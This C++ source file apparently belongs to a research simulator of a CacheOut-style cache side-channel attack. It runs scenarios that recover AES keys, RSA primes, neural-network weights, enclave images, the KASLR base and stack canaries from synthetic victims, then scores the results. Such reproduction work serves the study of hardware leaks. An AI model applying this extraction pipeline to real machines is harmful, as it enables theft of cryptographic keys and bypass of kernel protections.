#include <algorithm>
#include <bit>
#include <map>

#include "cacheout/harness.hpp"
#include "harness_internal.hpp"

namespace cacheout {

namespace {

using detail::Rig;

std::string hex(std::span<const std::uint8_t> b) { return to_hex(b.data(), b.size()); }

std::string hex64(std::uint64_t v) {
  char buf[19];
  std::snprintf(buf, sizeof buf, "0x%016llx", static_cast<unsigned long long>(v));
  return buf;
}

std::string mpz_hex(const mpz_class& v) { return v.get_str(16); }

std::vector<unsigned> all_lines() {
  std::vector<unsigned> v(kNumSets);
  for (unsigned i = 0; i < kNumSets; ++i) v[i] = i;
  return v;
}

std::vector<unsigned> lines_covering(std::uint64_t page_offset, std::size_t len) {
  std::vector<unsigned> v;
  for (std::uint64_t l = page_offset / kLineSize; l <= (page_offset + len - 1) / kLineSize; ++l) {
    v.push_back(static_cast<unsigned>(l));
  }
  return v;
}

// Virtualized victims run on a busier core.
ScenarioConfig effective(const ScenarioConfig& cfg) {
  ScenarioConfig c = cfg;
  if (c.domain == Domain::vm_guest || c.domain == Domain::hypervisor) c.noise.background_fills += 1;
  return c;
}

struct Online {
  PageDump dump;
  std::vector<std::uint8_t> truth;
};

Online dump_with(const ScenarioConfig& cfg, std::uint64_t seed, VictimProgram prog, ThreadMode mode,
                 AttackKind kind, unsigned iters, std::span<const unsigned> lines) {
  Rig rig(cfg, seed, std::move(prog), mode);
  Online o;
  o.dump = rig.attacker.dump_page(rig.victim.as_step(), iters, kind, {}, lines);
  o.truth = rig.victim_page();
  return o;
}

// Agreement between the dump and the victim page over the secret lines.
// accuracy: correct bytes over all bytes; precision: correct over emitted.
ordered_json dump_metrics(const PageDump& d, const std::vector<std::uint8_t>& truth,
                          std::span<const unsigned> secret_lines) {
  std::uint64_t correct_bytes = 0, known_bytes = 0, modal_ok = 0, cells = 0;
  for (const unsigned line : secret_lines) {
    for (unsigned o = 0; o < kLineSize; ++o) {
      const std::size_t pos = line * kLineSize + o;
      known_bytes += d.known[pos];
      correct_bytes += d.known[pos] && d.bytes[pos] == truth[pos];
    }
    auto samples = d.samples.samples_for(line);
    std::erase_if(samples, [](const LeakSample& s) { return s.pair == BytePair{0, 0}; });
    for (unsigned o = 0; o < kPairsPerLine; ++o) {
      ++cells;
      const auto m = modal_sample(samples, o);
      const BytePair want{truth[line * kLineSize + o], truth[line * kLineSize + o + 1]};
      modal_ok += m && m->pair == want;
    }
  }
  const double nbytes = static_cast<double>(secret_lines.size() * kLineSize);
  ordered_json j;
  j["coverage"] = d.coverage();
  j["accuracy"] = nbytes > 0 ? static_cast<double>(correct_bytes) / nbytes : 0.0;
  j["precision"] = known_bytes ? static_cast<double>(correct_bytes) / static_cast<double>(known_bytes) : 0.0;
  j["modal_correct_rate"] = cells ? static_cast<double>(modal_ok) / static_cast<double>(cells) : 0.0;
  return j;
}

std::vector<unsigned> secret_lines(const VictimProgram& p, std::initializer_list<const char*> names) {
  std::vector<unsigned> out;
  for (const char* n : names) {
    for (const auto& s : p.secrets) {
      if (s.name != n || s.addr < p.base) continue;
      for (auto l : lines_covering(s.addr - p.base, s.bytes.size())) out.push_back(l);
    }
  }
  std::sort(out.begin(), out.end());
  out.erase(std::unique(out.begin(), out.end()), out.end());
  return out;
}

AttackRun finish(const ScenarioConfig& cfg, unsigned iterations, ordered_json pub, ordered_json online,
                 ordered_json offline, ordered_json metrics, bool online_ok, bool verified) {
  AttackRun run;
  const char* status = !online_ok ? "online_failure" : verified ? "verified" : "offline_failure";
  run.exit_code = !online_ok ? kExitOnline : verified ? kExitOk : kExitOffline;
  ordered_json& r = run.report;
  r["scenario"] = cfg.scenario;
  r["seed"] = cfg.seed;
  r["iterations"] = iterations;
  r["config"] = cfg.to_json();
  r["public"] = std::move(pub);
  r["online"] = std::move(online);
  r["offline"] = std::move(offline);
  r["metrics"] = std::move(metrics);
  r["verified"] = verified;
  r["status"] = status;
  r["exit_code"] = run.exit_code;
  return run;
}

unsigned suffix_bits(const std::string& scenario, unsigned fallback) {
  const auto dash = scenario.find('-');
  if (dash == std::string::npos) return fallback;
  return static_cast<unsigned>(std::stoul(scenario.substr(dash + 1)));
}

// ---------------------------------------------------------------- offline

struct AesOffline {
  ordered_json json;
  std::optional<std::vector<std::uint8_t>> key;
  std::vector<std::uint8_t> plaintext;
};

AesOffline offline_aes(const Histogram& h, unsigned key_bits) {
  const PageDump dump = assemble_page_dump(h);
  const auto cands = aes_locate(ByteDump::from(dump), key_bits);
  AesOffline out;
  out.json["candidates"] = cands.size();
  if (cands.empty()) {
    out.json["key"] = nullptr;
    return out;
  }
  const auto& top = cands.front();
  out.key = top.key;
  out.json["key"] = hex(top.key);
  out.json["offset"] = top.offset;
  out.json["match_score"] = top.match_score;
  // The message shares the key's line, directly before it.
  if (top.offset >= 16) {
    out.plaintext.assign(dump.bytes.begin() + static_cast<std::ptrdiff_t>(top.offset - 16),
                         dump.bytes.begin() + static_cast<std::ptrdiff_t>(top.offset));
    std::string printable;
    for (auto b : out.plaintext) printable += (b >= 0x20 && b < 0x7f) ? static_cast<char>(b) : '.';
    out.json["plaintext"] = printable;
  }
  return out;
}

struct RsaOffline {
  ordered_json json;
  RsaResult result;
};

RsaOffline offline_rsa(const Histogram& h, const mpz_class& n, unsigned bits) {
  const PageDump dump = assemble_page_dump(h);
  const ChunkPool pool = chunk_pool_from_dump(dump, n);
  RsaOffline out;
  out.result = rsa_reconstruct(pool, bits);
  out.json["pool_size"] = pool.chunks.size();
  out.json["levels"] = out.result.levels;
  out.json["deepest_level"] = out.result.deepest_level;
  out.json["pairs_tested"] = out.result.pairs_tested;
  out.json["ok"] = out.result.ok;
  if (out.result.ok) {
    out.json["p"] = mpz_hex(out.result.p);
    out.json["q"] = mpz_hex(out.result.q);
    out.json["check"] = out.result.p * out.result.q == n ? "p*q == N" : "p*q != N";
  } else {
    out.json["error"] = out.result.error;
  }
  return out;
}

struct FannOffline {
  ordered_json json;
  std::vector<std::vector<WeightCandidate>> raw;
  std::vector<WeightSlot> filtered;
};

FannOffline offline_fann(const Histogram& h, std::uint64_t offset) {
  FannOffline out;
  for (std::size_t i = 0; i < kFannWeights; ++i) out.raw.push_back(chain_candidates(h, offset + 4 * i));
  out.filtered = weight_filter(out.raw);
  auto rec = ordered_json::array();
  std::size_t empty = 0;
  for (const auto& s : out.filtered) {
    if (const auto t = s.top()) {
      char buf[11];
      std::snprintf(buf, sizeof buf, "0x%08x", *t);
      rec.push_back(buf);
    } else {
      rec.push_back(nullptr);
      ++empty;
    }
  }
  out.json["slots"] = kFannWeights;
  out.json["empty_slots"] = empty;
  out.json["weights"] = std::move(rec);
  return out;
}

// Reads the 8-byte slot at (line, offset) from pair samples at offsets
// offset..offset+6.
std::optional<std::uint64_t> offline_slot(const Histogram& h, unsigned line, unsigned offset) {
  auto samples = h.samples_for(line);
  std::erase_if(samples, [](const LeakSample& s) { return s.pair == BytePair{0, 0}; });
  const StitchResult r = stitch(samples);
  if (r.bytes.size() < offset + 8) return std::nullopt;
  std::uint8_t b[8];
  for (unsigned i = 0; i < 8; ++i) {
    if (!r.known[offset + i]) return std::nullopt;
    b[i] = r.bytes[offset + i];
  }
  return load_le64(b);
}

// ---------------------------------------------------------------- scenarios

AttackRun attack_aes(const ScenarioConfig& cfg) {
  const unsigned bits = suffix_bits(cfg.scenario, 128);
  const unsigned iters = cfg.iterations_or(500);
  Rng rng(derive_seed(cfg.seed, 10));
  const VictimProgram prog = victim_aes(bits, cfg.message, rng);
  const auto lines = all_lines();
  const Online o = dump_with(cfg, derive_seed(cfg.seed, 11), prog, ThreadMode::cross_thread,
                             AttackKind::write, iters, lines);

  const AesOffline off = offline_aes(o.dump.samples, bits);
  const auto& key = prog.secret("key").bytes;
  const auto& pt = prog.secret("plaintext").bytes;
  ordered_json metrics = dump_metrics(o.dump, o.truth, secret_lines(prog, {"plaintext", "round_keys"}));
  std::size_t pt_ok = 0;
  for (std::size_t i = 0; i < pt.size() && i < off.plaintext.size(); ++i) pt_ok += off.plaintext[i] == pt[i];
  metrics["plaintext_byte_accuracy"] = static_cast<double>(pt_ok) / static_cast<double>(pt.size());
  metrics["key_recovered"] = off.key && *off.key == key;

  ordered_json online;
  online["thread_mode"] = "cross_thread";
  online["attack"] = "write";
  online["lines"] = lines.size();
  online["samples"] = o.dump.samples.samples().size();
  AttackRun run = finish(cfg, iters, {{"key_bits", bits}}, online, off.json, metrics, o.dump.coverage() > 0,
                off.key && *off.key == key);
  run.histogram = o.dump.samples;
  return run;
}

AttackRun attack_rsa(const ScenarioConfig& cfg) {
  const unsigned bits = suffix_bits(cfg.scenario, 1024);
  const unsigned iters = cfg.iterations_or(200);
  Rng rng(derive_seed(cfg.seed, 20));
  if (bits != 512 && bits != 1024 && bits != 2048 && bits != 4096) {
    throw SimulationError("RSA size must be 512, 1024, 2048 or 4096");
  }
  const RsaKey key = generate_rsa_key(bits, rng);
  const VictimProgram prog = victim_rsa(key, bits);
  const auto lines = all_lines();
  const Online o = dump_with(cfg, derive_seed(cfg.seed, 21), prog, ThreadMode::cross_thread,
                             AttackKind::read, iters, lines);

  const RsaOffline off = offline_rsa(o.dump.samples, key.n, bits);
  const bool match = off.result.ok && ((off.result.p == key.p && off.result.q == key.q) ||
                                       (off.result.p == key.q && off.result.q == key.p));
  ordered_json metrics = dump_metrics(o.dump, o.truth, secret_lines(prog, {"p", "q"}));
  ordered_json online;
  online["thread_mode"] = "cross_thread";
  online["attack"] = "read";
  online["lines"] = lines.size();
  online["samples"] = o.dump.samples.samples().size();
  AttackRun run = finish(cfg, iters, {{"bits", bits}, {"n", mpz_hex(key.n)}}, online, off.json, metrics,
                o.dump.coverage() > 0, match);
  run.histogram = o.dump.samples;
  return run;
}

std::vector<float> random_weights(Rng& rng) {
  std::vector<float> w(kFannWeights);
  for (auto& x : w) {
    const float mag = 0.04f + static_cast<float>(rng.uniform()) * 1.96f;
    x = rng.chance(0.5) ? mag : -mag;
  }
  return w;
}

AttackRun attack_fann(const ScenarioConfig& cfg) {
  const unsigned iters = cfg.iterations_or(200);
  Rng rng(derive_seed(cfg.seed, 30));
  const auto weights = random_weights(rng);
  const VictimProgram prog = victim_fann(weights, cfg.fann_offset);
  const auto lines = lines_covering(cfg.fann_offset, kFannWeights * 4);
  const Online o = dump_with(cfg, derive_seed(cfg.seed, 31), prog, ThreadMode::cross_thread,
                             AttackKind::read, iters, lines);

  const FannOffline off = offline_fann(o.dump.samples, cfg.fann_offset);
  WeightFilterOptions band_only;
  band_only.penalize_zero_ff = false;
  const auto banded = weight_filter(off.raw, band_only);
  std::size_t naive = 0, band = 0, top1 = 0, top3 = 0, top5 = 0;
  for (std::size_t i = 0; i < kFannWeights; ++i) {
    const auto truth = std::bit_cast<std::uint32_t>(weights[i]);
    naive += naive_weight(off.raw[i]) == truth;
    band += banded[i].in_top(truth, 1);
    top1 += off.filtered[i].in_top(truth, 1);
    top3 += off.filtered[i].in_top(truth, 3);
    top5 += off.filtered[i].in_top(truth, 5);
  }
  const double n = kFannWeights;
  ordered_json metrics = dump_metrics(o.dump, o.truth, lines);
  metrics["naive_top1_accuracy"] = naive / n;
  metrics["band_top1_accuracy"] = band / n;
  metrics["filtered_top1_accuracy"] = top1 / n;
  metrics["filtered_top3_accuracy"] = top3 / n;
  metrics["filtered_top5_accuracy"] = top5 / n;
  ordered_json online;
  online["thread_mode"] = "cross_thread";
  online["attack"] = "read";
  online["lines"] = lines.size();
  online["samples"] = o.dump.samples.samples().size();
  AttackRun run = finish(cfg, iters, {{"fann_offset", cfg.fann_offset}}, online, off.json, metrics,
                o.dump.coverage() > 0, top1 / n >= 0.9);
  run.histogram = o.dump.samples;
  return run;
}

// ------------------------------------------------------------------ kernel

bool pointer_like(std::uint64_t v) {
  return (v >> 32) == 0xffffffffULL && v - kHrtickOffset >= kKernelTextBase &&
         (v - kHrtickOffset) % kKaslrAlign == 0;
}

struct Boots {
  std::vector<std::uint64_t> training;
  std::uint64_t target = 0;
};

// Guest reboots re-randomize the guest kernel but not the hypervisor.
Boots boot_seeds(const ScenarioConfig& cfg) {
  Boots b;
  const bool host = cfg.domain == Domain::hypervisor;
  for (unsigned i = 0; i < cfg.training_boots; ++i) {
    b.training.push_back(derive_seed(cfg.seed, host ? 40 : 41 + i));
  }
  b.target = derive_seed(cfg.seed, host ? 40 : 60);
  return b;
}

struct Training {
  std::vector<StaticLocation> locations;
  ordered_json json;
};

Training train(const ScenarioConfig& cfg, const Boots& boots, unsigned iters) {
  std::vector<PageDump> dumps;
  const auto lines = all_lines();
  for (std::size_t i = 0; i < boots.training.size(); ++i) {
    dumps.push_back(dump_with(cfg, derive_seed(boots.training[i], 7), victim_kernel(boots.training[i], cfg.domain),
                              ThreadMode::same_thread, AttackKind::write, iters, lines)
                        .dump);
  }
  Training t;
  t.locations = find_static_locations(dumps, {cfg.training_boots, 0.5});
  auto locs = ordered_json::array();
  for (const auto& l : t.locations) {
    ordered_json e;
    e["line"] = l.line;
    e["offset"] = l.offset;
    e["stable"] = l.stable;
    auto vals = ordered_json::array();
    for (auto v : l.values) vals.push_back(hex64(v));
    e["values"] = std::move(vals);
    locs.push_back(std::move(e));
  }
  t.json["boots"] = boots.training.size();
  t.json["iterations"] = iters;
  t.json["static_locations"] = std::move(locs);
  return t;
}

Histogram leak_slots(const ScenarioConfig& cfg, std::uint64_t boot,
                     const std::vector<std::pair<unsigned, unsigned>>& slots) {
  Rig rig(cfg, derive_seed(boot, 9), victim_kernel(boot, cfg.domain), ThreadMode::same_thread);
  Histogram h;
  for (const auto& [line, offset] : slots) {
    for (unsigned k = offset; k < offset + 7; ++k) {
      h.merge(rig.attacker.attack_write(rig.victim.as_step(), line, k, cfg.online_iterations));
    }
  }
  return h;
}

ordered_json slot_json(unsigned line, unsigned offset) { return {{"line", line}, {"offset", offset}}; }

struct KaslrOffline {
  ordered_json json;
  std::optional<std::uint64_t> pointer, base;
};

KaslrOffline offline_kaslr(const Histogram& h, unsigned line, unsigned offset, const std::string& owner) {
  KaslrOffline out;
  out.pointer = offline_slot(h, line, offset);
  if (out.pointer && pointer_like(*out.pointer)) out.base = *out.pointer - kHrtickOffset;
  out.json["slot"] = slot_json(line, offset);
  out.json["owner"] = owner;
  out.json["pointer"] = out.pointer ? ordered_json(hex64(*out.pointer)) : ordered_json(nullptr);
  out.json["text_base"] = out.base ? ordered_json(hex64(*out.base)) : ordered_json(nullptr);
  return out;
}

struct CanaryOffline {
  ordered_json json;
  std::optional<std::uint64_t> canary;
  unsigned votes = 0;
};

// Majority of the values stitched at each slot.
CanaryOffline offline_canary(const Histogram& h, const std::vector<std::pair<unsigned, unsigned>>& slots) {
  CanaryOffline out;
  std::map<std::uint64_t, unsigned> votes;
  auto js = ordered_json::array();
  for (const auto& [line, offset] : slots) {
    js.push_back(slot_json(line, offset));
    if (const auto v = offline_slot(h, line, offset)) ++votes[*v];
  }
  for (const auto& [v, c] : votes) {
    if (c > out.votes) {
      out.votes = c;
      out.canary = v;
    }
  }
  out.json["slots"] = std::move(js);
  out.json["canary"] = out.canary ? ordered_json(hex64(*out.canary)) : ordered_json(nullptr);
  out.json["votes"] = out.votes;
  return out;
}

AttackRun attack_kaslr(const ScenarioConfig& cfg) {
  const unsigned iters = cfg.iterations_or(30);
  const Boots boots = boot_seeds(cfg);
  const Training t = train(cfg, boots, iters);
  ordered_json online;
  online["thread_mode"] = "same_thread";
  online["training"] = t.json;

  const StaticLocation* pick = nullptr;
  for (const auto& l : t.locations) {
    if (std::all_of(l.values.begin(), l.values.end(), pointer_like)) {
      pick = &l;
      break;
    }
  }
  if (!pick) {
    return finish(cfg, iters, {}, online, {{"error", "no pointer-like static slot found"}}, {}, true, false);
  }
  const Histogram h = leak_slots(cfg, boots.target, {{pick->line, pick->offset}});
  const char* owner = pick->stable ? "hypervisor" : "kernel";
  const KaslrOffline off = offline_kaslr(h, pick->line, pick->offset, owner);
  const VictimProgram target = victim_kernel(boots.target, cfg.domain);
  const std::uint64_t truth = load_le64(target.secret("text_base").bytes.data());
  ordered_json metrics;
  metrics["static_locations"] = t.locations.size();
  metrics["slot_correct"] = pick->line * kLineSize + pick->offset == kKernelPointerOffset;
  ordered_json pub;
  pub["slot"] = slot_json(pick->line, pick->offset);
  pub["owner"] = owner;
  AttackRun run = finish(cfg, iters, pub, online, off.json, metrics, off.pointer.has_value(), off.base == truth);
  run.histogram = h;
  return run;
}

AttackRun attack_canary(const ScenarioConfig& cfg) {
  const unsigned iters = cfg.iterations_or(30);
  const Boots boots = boot_seeds(cfg);
  const Training t = train(cfg, boots, iters);
  ordered_json online;
  online["thread_mode"] = "same_thread";
  online["training"] = t.json;

  // A canary is a random word with a zero low byte, shared by every frame:
  // group candidate slots by their per-run values and keep the largest group.
  std::map<std::vector<std::uint64_t>, std::vector<std::pair<unsigned, unsigned>>> groups;
  for (const auto& l : t.locations) {
    const bool canary_like = std::all_of(l.values.begin(), l.values.end(), [](std::uint64_t v) {
      return (v & 0xff) == 0 && !pointer_like(v);
    });
    if (canary_like) groups[l.values].push_back({l.line, l.offset});
  }
  const std::vector<std::pair<unsigned, unsigned>>* best = nullptr;
  for (const auto& [vals, slots] : groups) {
    if (!best || slots.size() > best->size()) best = &slots;
  }
  if (!best) {
    return finish(cfg, iters, {}, online, {{"error", "no canary-like static slot found"}}, {}, true, false);
  }
  const Histogram h = leak_slots(cfg, boots.target, *best);
  const CanaryOffline off = offline_canary(h, *best);
  const VictimProgram target = victim_kernel(boots.target, cfg.domain);
  const std::uint64_t truth = load_le64(target.secret("canary").bytes.data());
  ordered_json metrics;
  metrics["static_locations"] = t.locations.size();
  metrics["canary_slots"] = best->size();
  AttackRun run = finish(cfg, iters, {{"slots", off.json["slots"]}}, online, off.json, metrics, off.votes > 0,
                         off.canary == truth);
  run.histogram = h;
  return run;
}

// ------------------------------------------------------------------- image

std::vector<Rgb> synthetic_image(unsigned w, unsigned h, Rng& rng) {
  struct Disc {
    double cx, cy, r;
    Rgb c;
  };
  std::vector<Disc> discs;
  for (int i = 0; i < 6; ++i) {
    discs.push_back({rng.uniform() * w, rng.uniform() * h, 8 + rng.uniform() * w / 4,
                     {static_cast<std::uint8_t>(40 + rng.below(180)), static_cast<std::uint8_t>(40 + rng.below(180)),
                      static_cast<std::uint8_t>(40 + rng.below(180))}});
  }
  std::vector<Rgb> px(static_cast<std::size_t>(w) * h);
  for (unsigned y = 0; y < h; ++y) {
    for (unsigned x = 0; x < w; ++x) {
      Rgb c{static_cast<std::uint8_t>(30 + 180 * x / w), static_cast<std::uint8_t>(30 + 180 * y / h),
            static_cast<std::uint8_t>(120)};
      for (const auto& d : discs) {
        const double dx = x - d.cx, dy = y - d.cy;
        if (dx * dx + dy * dy < d.r * d.r) c = d.c;
      }
      px[static_cast<std::size_t>(y) * w + x] = c;
    }
  }
  return px;
}

// Byte values seen at a position, most frequent first, at most `k`.
std::vector<std::uint8_t> top_bytes(const std::array<std::uint32_t, 256>& counts, std::size_t k) {
  std::vector<std::uint8_t> v;
  for (unsigned b = 0; b < 256; ++b) {
    if (counts[b]) v.push_back(static_cast<std::uint8_t>(b));
  }
  std::stable_sort(v.begin(), v.end(), [&](auto a, auto b) { return counts[a] > counts[b]; });
  if (v.size() > k) v.resize(k);
  return v;
}

AttackRun attack_image(const ScenarioConfig& cfg) {
  const unsigned iters = cfg.iterations_or(10);
  const unsigned w = cfg.image_width, h = cfg.image_height;
  const std::size_t npx = static_cast<std::size_t>(w) * h;
  Rng rng(derive_seed(cfg.seed, 50));
  const auto truth = synthetic_image(w, h, rng);
  std::vector<std::uint8_t> bytes(npx * 3);
  for (std::size_t i = 0; i < npx; ++i) {
    bytes[3 * i] = truth[i].r;
    bytes[3 * i + 1] = truth[i].g;
    bytes[3 * i + 2] = truth[i].b;
  }
  const std::size_t pages = (bytes.size() + kPageSize - 1) / kPageSize;
  bytes.resize(pages * kPageSize, 0);

  // Online: one enclave page load and full-page dump per image page.
  std::vector<PageDump> dumps;
  Histogram merged;
  const auto lines = all_lines();
  for (std::size_t p = 0; p < pages; ++p) {
    const auto page = std::span<const std::uint8_t>(bytes).subspan(p * kPageSize, kPageSize);
    dumps.push_back(dump_with(cfg, derive_seed(cfg.seed, 51 + p), victim_enclave(page),
                              ThreadMode::cross_thread, AttackKind::write, iters, lines)
                        .dump);
    merged.merge(dumps.back().samples);
  }

  // Offline: up to two candidates per channel, combined per pixel.
  std::vector<std::vector<Rgb>> cands(npx);
  std::size_t observed = 0;
  for (std::size_t i = 0; i < npx; ++i) {
    std::array<std::vector<std::uint8_t>, 3> ch;
    bool ok = true;
    for (int c = 0; c < 3; ++c) {
      const std::size_t pos = 3 * i + c;
      ch[c] = top_bytes(dumps[pos / kPageSize].candidates[pos % kPageSize], 2);
      ok = ok && !ch[c].empty();
    }
    if (!ok) continue;
    ++observed;
    for (auto r : ch[0]) {
      for (auto g : ch[1]) {
        for (auto b : ch[2]) cands[i].push_back({r, g, b});
      }
    }
  }
  // Keep a fixed share of the pixels, as if only that much had been observed.
  Rng keep(derive_seed(cfg.seed, 52));
  std::vector<std::size_t> seen;
  for (std::size_t i = 0; i < npx; ++i) {
    if (!cands[i].empty()) seen.push_back(i);
  }
  for (std::size_t i = seen.size(); i > 1; --i) std::swap(seen[i - 1], seen[keep.below(i)]);
  const auto target = static_cast<std::size_t>(cfg.image_coverage * static_cast<double>(npx) + 0.5);
  for (std::size_t k = target; k < seen.size(); ++k) cands[seen[k]].clear();

  ImageOptions opts;
  opts.distance = cfg.image_distance;
  Image img = image_reconstruct(cands, w, h, opts);
  Rng pick(derive_seed(cfg.seed, 53));
  std::size_t exact = 0, random_exact = 0, covered = 0;
  for (std::size_t i = 0; i < npx; ++i) {
    if (cands[i].empty()) continue;
    ++covered;
    exact += img.pixels[i] == truth[i];
    random_exact += cands[i][pick.below(cands[i].size())] == truth[i];
  }
  const double n = static_cast<double>(npx);
  ordered_json online;
  online["thread_mode"] = "cross_thread";
  online["attack"] = "write";
  online["pages"] = pages;
  online["observed_pixels"] = observed;
  ordered_json off;
  off["width"] = w;
  off["height"] = h;
  off["distance"] = cfg.image_distance == ColorDistance::product ? "product" : "squared";
  off["pixels_with_candidates"] = covered;
  ordered_json metrics;
  metrics["coverage"] = covered / n;
  metrics["pixel_exact_neighbour"] = exact / n;
  metrics["pixel_exact_random"] = random_exact / n;
  AttackRun run = finish(cfg, iters, {{"width", w}, {"height", h}}, online, off, metrics, observed > 0,
                         exact > random_exact);
  run.histogram = std::move(merged);
  run.image = std::move(img);
  return run;
}

}  // namespace

const std::vector<std::string>& attack_scenarios() {
  static const std::vector<std::string> names{"aes-128",  "aes-192",  "aes-256", "rsa-512", "rsa-1024",
                                              "rsa-2048", "rsa-4096", "fann",    "image",   "kaslr",
                                              "canary"};
  return names;
}

AttackRun run_attack_scenario(const ScenarioConfig& base) {
  ScenarioConfig cfg = effective(base);
  if (cfg.scenario == "aes") cfg.scenario = "aes-128";
  if (cfg.scenario == "rsa") cfg.scenario = "rsa-1024";
  const auto& names = attack_scenarios();
  if (std::find(names.begin(), names.end(), cfg.scenario) == names.end()) {
    throw SimulationError("unknown attack scenario '" + cfg.scenario + "'");
  }
  cfg.noise.validate();
  try {
    AttackRun run;
    if (cfg.scenario.rfind("aes", 0) == 0) run = attack_aes(cfg);
    else if (cfg.scenario.rfind("rsa", 0) == 0) run = attack_rsa(cfg);
    else if (cfg.scenario == "fann") run = attack_fann(cfg);
    else if (cfg.scenario == "image") run = attack_image(cfg);
    else if (cfg.scenario == "kaslr") run = attack_kaslr(cfg);
    else run = attack_canary(cfg);
    return run;
  } catch (const TsxUnavailable&) {
    return finish(cfg, cfg.iterations, {}, {{"error", "TSX is disabled; the leak primitive is unavailable"}},
                  {}, {}, false, false);
  }
}

AttackRun replay(const ordered_json& report, const Histogram& histogram) {
  if (!report.contains("scenario") || !report.contains("public")) {
    throw SimulationError("report has no scenario or public section");
  }
  const std::string scenario = report["scenario"].get<std::string>();
  const ordered_json& pub = report["public"];
  ordered_json off;
  bool success = false;
  if (scenario.rfind("aes", 0) == 0) {
    const AesOffline a = offline_aes(histogram, pub.at("key_bits").get<unsigned>());
    off = a.json;
    success = a.key.has_value();
  } else if (scenario.rfind("rsa", 0) == 0) {
    const mpz_class n(pub.at("n").get<std::string>(), 16);
    const RsaOffline r = offline_rsa(histogram, n, pub.at("bits").get<unsigned>());
    off = r.json;
    success = r.result.ok;
  } else if (scenario == "fann") {
    const FannOffline f = offline_fann(histogram, pub.at("fann_offset").get<std::uint64_t>());
    off = f.json;
    success = f.json["empty_slots"].get<std::size_t>() < kFannWeights;
  } else if (scenario == "kaslr") {
    const KaslrOffline k = offline_kaslr(histogram, pub.at("slot").at("line").get<unsigned>(),
                                         pub.at("slot").at("offset").get<unsigned>(),
                                         pub.at("owner").get<std::string>());
    off = k.json;
    success = k.base.has_value();
  } else if (scenario == "canary") {
    std::vector<std::pair<unsigned, unsigned>> slots;
    for (const auto& e : pub.at("slots")) slots.push_back({e.at("line").get<unsigned>(), e.at("offset").get<unsigned>()});
    const CanaryOffline c = offline_canary(histogram, slots);
    off = c.json;
    success = c.canary.has_value();
  } else {
    throw SimulationError("scenario '" + scenario + "' cannot be replayed");
  }
  AttackRun run;
  // Key order is not significant once a report has been through other tools.
  const bool matches = report.contains("offline") &&
                       nlohmann::json::parse(report["offline"].dump()) == nlohmann::json::parse(off.dump());
  run.exit_code = !success ? kExitOffline : matches ? kExitOk : kExitOffline;
  ordered_json& r = run.report;
  r["scenario"] = scenario;
  r["seed"] = report.value("seed", std::uint64_t{0});
  r["replay"] = true;
  r["offline"] = std::move(off);
  r["matches_recorded"] = matches;
  r["status"] = !success ? "offline_failure" : matches ? "reproduced" : "mismatch";
  r["exit_code"] = run.exit_code;
  run.histogram = histogram;
  return run;
}

DumpRun dump_victim_page(const ScenarioConfig& base, const std::string& victim, AttackKind kind) {
  const ScenarioConfig cfg = effective(base);
  cfg.noise.validate();
  Rng rng(derive_seed(cfg.seed, 70));
  VictimProgram prog;
  if (victim == "aes") prog = victim_aes(128, cfg.message, rng);
  else if (victim == "rsa") prog = victim_rsa(1024, rng);
  else if (victim == "fann") prog = victim_fann(random_weights(rng), cfg.fann_offset);
  else if (victim == "kernel") prog = victim_kernel(derive_seed(cfg.seed, 71), cfg.domain);
  else if (victim == "enclave") {
    std::vector<std::uint8_t> page(kPageSize);
    for (auto& b : page) b = static_cast<std::uint8_t>(rng.below(256));
    prog = victim_enclave(page);
  } else {
    throw SimulationError("unknown victim '" + victim + "' (expected aes, rsa, fann, kernel or enclave)");
  }
  const ThreadMode mode = victim == "kernel" ? ThreadMode::same_thread : ThreadMode::cross_thread;
  if (kind == AttackKind::read && mode == ThreadMode::same_thread) {
    throw SimulationError("read attacks need a sibling thread; the kernel victim is same-thread only");
  }
  const unsigned iters = cfg.iterations_or(100);
  DumpRun run;
  Online o = dump_with(cfg, derive_seed(cfg.seed, 72), prog, mode, kind, iters, all_lines());
  run.dump = std::move(o.dump);
  run.truth = std::move(o.truth);
  std::vector<unsigned> touched;
  for (unsigned l = 0; l < kNumSets; ++l) {
    const auto first = run.truth.begin() + l * kLineSize;
    if (std::any_of(first, first + kLineSize, [](std::uint8_t b) { return b != 0; })) touched.push_back(l);
  }
  ordered_json& r = run.report;
  r["victim"] = victim;
  r["attack"] = kind == AttackKind::write ? "write" : "read";
  r["thread_mode"] = mode == ThreadMode::same_thread ? "same_thread" : "cross_thread";
  r["seed"] = cfg.seed;
  r["iterations"] = iters;
  r["config"] = cfg.to_json();
  r["metrics"] = dump_metrics(run.dump, run.truth, touched);
  r["metrics"]["nonzero_lines"] = touched.size();
  return run;
}

}  // namespace cacheout
